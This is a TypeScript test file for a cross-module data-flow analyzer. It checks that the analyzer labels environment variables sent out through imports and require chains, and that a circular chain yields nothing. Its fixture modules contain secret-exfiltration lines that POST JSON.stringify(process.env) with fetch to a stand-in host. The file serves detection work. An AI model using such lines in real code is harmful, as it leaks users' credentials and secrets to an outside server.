import { expect, test } from 'vitest';
import { labelNames } from '../labels.ts';
import { analyzeLinked } from './index.ts';

/** Labels of what the first of some modules sends; the others are loaded by their names. */
function sent(files: Readonly<Record<string, string>>): string[] {
  const sources = Object.entries(files).map(([id, text]) => ({
    id,
    text,
    typescript: false,
    order: 0,
    loads: [...text.matchAll(/require\('\.\/([\w.]+)'\)|import [^;]+ from '\.\/([\w.]+)'/g)].map((match) => ({
      specifier: `./${match[1] ?? match[2]}`,
      offset: match.index,
      target: match[1] ?? match[2] ?? '',
    })),
  }));
  const flows = analyzeLinked(sources)?.get(sources[0]?.id ?? '')?.flows ?? [];
  return flows.flatMap(({ labels }) => labelNames(labels));
}

const READ = 'JSON.stringify(process.env)';

test.each([
  [
    'an import',
    {
      'a.js': `import { all } from './b.js'; fetch('https://a.weir.test', { method: 'POST', body: all() });`,
      'b.js': `import { all } from './c.js'; export { all };`,
      'c.js': `export const all = () => ${READ};`,
    },
  ],
  [
    'a name that is taken out of what is loaded',
    {
      'a.js': `const { all } = require('./b.js'); fetch('https://a.weir.test', { method: 'POST', body: all() });`,
      'b.js': `const { every } = require('./c.js'); module.exports = { all: every };`,
      'c.js': `exports.every = () => ${READ};`,
    },
  ],
])('a module gives on %s of another one', (_name, files) => {
  expect(sent(files)).toContain('envAll');
});

test('what modules give on in a circle is nothing', () => {
  const files = {
    'a.js': `import { all } from './b.js'; fetch('https://a.weir.test', { method: 'POST', body: all() });`,
    'b.js': `import { all } from './c.js'; export { all };`,
    'c.js': `import { all } from './b.js'; export { all };`,
  };
  expect(sent(files)).not.toContain('envAll');
});
